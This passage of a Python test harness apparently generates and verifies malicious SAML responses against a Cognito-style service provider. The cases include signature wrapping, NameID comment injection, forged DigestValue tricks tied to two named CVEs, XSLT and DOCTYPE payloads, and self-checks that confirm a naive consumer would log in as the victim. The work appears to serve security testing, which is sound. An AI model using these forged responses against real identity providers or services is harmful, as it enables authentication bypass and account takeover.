            doc.find(q(SAML, "Issuer")).addnext(s)  # tail-less: c14n without s is unchanged
        path = os.path.join(tmp, f"extracted-{n}.xml")
        with open(path, "wb") as f:
            f.write(etree.tostring(doc))
        if xmlsec_verify(path, pubkey_path)[0] == OK:
            return "OK*", []
    return FAIL, [f"no element with ID {ref_id} verifies"]


def naive_users(xml):
    """Who sloppy consumers would log in as (first text node only): the first NameID in
    document order, /Response/Assertion[1]/Subject/NameID and .../Assertion[last()]/..."""
    try:
        root = etree.fromstring(xml, etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False))
    except etree.XMLSyntaxError:
        return None, None, None
    first = root.find(".//" + q(SAML, "NameID"))
    paths = root.findall(f"{q(SAML, 'Assertion')}/{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")
    text = lambda el: el.text if el is not None else None  # noqa: E731
    return text(first), text(paths[0] if paths else None), text(paths[-1] if paths else None)


def signed_info_valid(root, public_key):
    """SignatureValue over SignedInfo of the first real Signature (digests not checked)."""
    sig = next(x for x in root.iter(q(DS, "Signature")) if x.getparent().tag != q(DS, "Object"))
    si = sig.find(q(DS, "SignedInfo"))
    sha1 = si.find(q(DS, "SignatureMethod")).get("Algorithm") == SIG_RSA_SHA1
    try:
        value = base64.b64decode(sig.find(q(DS, "SignatureValue")).text or "")
        public_key.verify(value, c14n(si), padding.PKCS1v15(), hashes.SHA1() if sha1 else hashes.SHA256())
        return True
    except Exception:  # noqa: BLE001 - InvalidSignature or garbage
        return False


def extra_checks(name, xml, name_id, public_key, cert_pem, oracle_fn):
    """Case-specific faithfulness checks beyond the xmlsec1 verdict: [(label, passed)]."""
    out = []
    users = naive_users(xml)
    if name in WRAPPING:
        out.append(("victim-readable", name_id in users))
        # The oracle must notice a change to the attacker's genuinely signed copy.
        out.append(("tamper->FAIL", oracle_fn(xml.replace(ATTACKER_NAME_ID.encode(), b"attacker@attacker.tesx")) == FAIL))
    if name.startswith("good_"):
        out.append(("signxml-accepts", signxml_accepts(xml, cert_pem)))
        out.append(("nameid", set(users) == {name_id}))
    if "DOCTYPE" in xml[:200].decode(errors="replace"):
        return out
    root = etree.fromstring(xml)
    a = assertion_of(root)
    if name == "comment_injection_nameid":
        nid = a.find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")
        out.append(("first-text=victim", nid.text == name_id))
        out.append(("itertext=full", "".join(nid.itertext()) == name_id + ".attacker.test"))
    if name in ("injected_digestvalue_cve_2024_45409", "comment_in_digestvalue_cve_2025_29775", "xslt_transform"):
        out.append(("SignedInfo-valid", signed_info_valid(root, public_key)))
    if name == "injected_digestvalue_cve_2024_45409":
        planted = root.find(f"{q(SAMLP, 'Extensions')}/{q(DS, 'DigestValue')}").text
        out.append(("planted=forged-digest", planted == enveloped_digest(a)))
    if name == "comment_in_digestvalue_cve_2025_29775":
        dv = a.find(f"{q(DS, 'Signature')}/{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}/{q(DS, 'DigestValue')}")
        out.append(("comment=forged-digest", dv[0].text == enveloped_digest(a)))
    if name == "oversized":
        out.append(("b64>100000", len(base64.b64encode(xml)) > COGNITO_MAX_CHARS))
    if name == "missing_inresponseto":
        out.append(("no-InResponseTo", b"InResponseTo" not in xml))
    return out


def self_check(keep_dir=None):
    tmp = tempfile.mkdtemp(prefix="saml-cases-")
    try:
        key, cert_pem = make_key_and_cert("self-check IdP")
        key_path, cert_path, pub_path = (os.path.join(tmp, n) for n in ("idp.key", "idp.crt", "idp.pub"))
        with open(key_path, "wb") as f:
            f.write(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
        with open(cert_path, "w") as f:
            f.write(cert_pem)
        with open(pub_path, "wb") as f:
            f.write(key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
        name_id = "admin@example.test"
        request = {
            "idp_key": key_path,
            "idp_cert": cert_path,
            "issuer": "http://127.0.0.1:1/idp",
            "audience": "urn:amazon:cognito:sp:us-east-1_TEST",
            "acs": "http://127.0.0.1:1/saml2/idpresponse",
            "name_id": name_id,
            "cases": [{"name": n, "in_response_to": "_req_" + n} for n in CASES],
        }

        def oracle_fn(xml, name="probe"):
            path = os.path.join(tmp, name + ".xml")
            with open(path, "wb") as f:
                f.write(xml)
            got, why = xmlsec_verify(path, pub_path)
            if got == OK and name == "good_both_signed":  # the Assertion's signature too
                got, why = xmlsec_verify(path, pub_path, "//*[local-name()='Assertion']/*[local-name()='Signature']")
            if got == FAIL and (name in WRAPPING or name == "probe"):
                got, why = xmlsec_verify_extracted(xml, tmp, pub_path)
            return got if name == "probe" else (got, why)

        rows, failures = [], 0
        for item in run(request):
            name = item["name"]
            expect, oracle, _ = CASES[name]
            xml = base64.b64decode(item["saml_response"])
            with open(os.path.join(tmp, name + ".b64"), "w") as f:
                f.write(item["saml_response"])
            got, why = oracle_fn(xml, name) if oracle else ("-", [])
            if not oracle:
                with open(os.path.join(tmp, name + ".xml"), "wb") as f:
                    f.write(xml)
            extras = extra_checks(name, xml, name_id, key.public_key(), cert_pem, oracle_fn)
            ok = (oracle is None or got.rstrip("*") == oracle) and all(p for _, p in extras)
            failures += not ok
            extra_txt = " ".join(f"{label}{'' if p else '=NO'}" for label, p in extras)
            rows.append((name, expect, oracle or "-", got, " / ".join(map(str, naive_users(xml))), extra_txt, ok, " ".join(why)))

        unsolicited = run({**request, "cases": [{"name": "good_assertion_signed", "in_response_to": None}]})[0]
        ok = b"InResponseTo" not in base64.b64decode(unsolicited["saml_response"])
        failures += not ok
        rows.append(("(good_assertion_signed, in_response_to=null)", "accept", "-", "-", "-", "no-InResponseTo" + ("" if ok else "=NO"), ok, ""))

        w = max(len(r[0]) for r in rows)
        print(f"{'case':<{w}}  expect  oracle  xmlsec1  {'naive NameID: first-in-doc / Assertion[1] / Assertion[last]':<62}  result  checks")
        for name, expect, oracle, got, naive, extra_txt, ok, why in rows:
            detail = f"  [{why}]" if not ok and why else ""
            print(f"{name:<{w}}  {expect:<6}  {oracle:<6}  {got:<7}  {naive:<62}  {'ok' if ok else 'MISMATCH':<6}  {extra_txt}{detail}")
        print(
            "\noracle = expected `xmlsec1 --verify` verdict with the pinned IdP key (KeyInfo ignored); '-' = not run"
            " (DOCTYPE/XSLT cases are never fed to a verifier here).\nOK* = xmlsec1 refuses the wrapped document as"
            " a whole (duplicate ID, or content inside ds:Signature); the element carrying the referenced ID, cut out"
            " with its bare Signature, verifies - i.e. the IdP-signed bytes are intact, which is what an"
            " ID-resolving verifier checks."
        )
        print(f"{len(rows) - failures} passed, {failures} failed")
        if keep_dir:
            shutil.copytree(tmp, keep_dir, dirs_exist_ok=True)
            print(f"corpus kept in {keep_dir}")
        return 1 if failures else 0
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def signxml_accepts(xml, cert_pem):
    """Hardened cross-check for the positive controls: pinned cert, exactly one Reference."""
    try:
        root = etree.fromstring(xml)
        for sig in root.iter(q(DS, "Signature")):
            parent = sig.getparent()
            doc = etree.fromstring(etree.tostring(parent))
            signxml.XMLVerifier().verify(doc, x509_cert=cert_pem, expect_references=1, id_attribute="ID")
        return True
    except Exception as e:  # noqa: BLE001 - any verifier complaint is a failure here
        print(f"signxml: {e}", file=sys.stderr)
        return False


def main():
    if "--list" in sys.argv:
        for name, (expect, _o, _f) in CASES.items():
            print(f"{name}\t{expect}")
        return 0
    if "--self-check" in sys.argv:
        keep = sys.argv[sys.argv.index("--keep") + 1] if "--keep" in sys.argv else None
        return self_check(keep)
    try:
        result = run(json.load(sys.stdin))
    except (KeyError, ValueError, OSError) as e:
        print(f"cases.py: {e}", file=sys.stderr)
        return 2
    json.dump(result, sys.stdout)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
